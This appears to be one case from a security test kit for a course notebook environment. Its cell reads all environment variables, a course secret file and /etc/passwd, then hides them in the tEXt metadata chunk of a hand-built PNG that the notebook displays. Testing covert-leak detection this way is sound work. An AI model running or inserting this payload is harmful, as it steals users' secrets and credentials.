"""Puts what it finds into the metadata of a PNG image."""

from attacks.kit import Earns

OUTCOME = Earns(10)
CELLS = (
    """
import os
import struct
import zlib

from IPython.display import Image, display


def chunk(kind, data):
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


loot = "STO" "LEN " + repr(dict(os.environ))
for path in ("@COURSE@/.course_secret", "/etc/passwd"):
    if os.path.exists(path):
        loot += open(path).read()
header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
pixels = chunk(b"IDAT", zlib.compress(b"\\0\\0"))
text = chunk(b"tEXt", b"Comment\\0" + loot.encode())
image = chunk(b"IHDR", header) + text + pixels + chunk(b"IEND", b"")
display(Image(b"\\x89PNG\\r\\n\\x1a\\n" + image))
""",
)
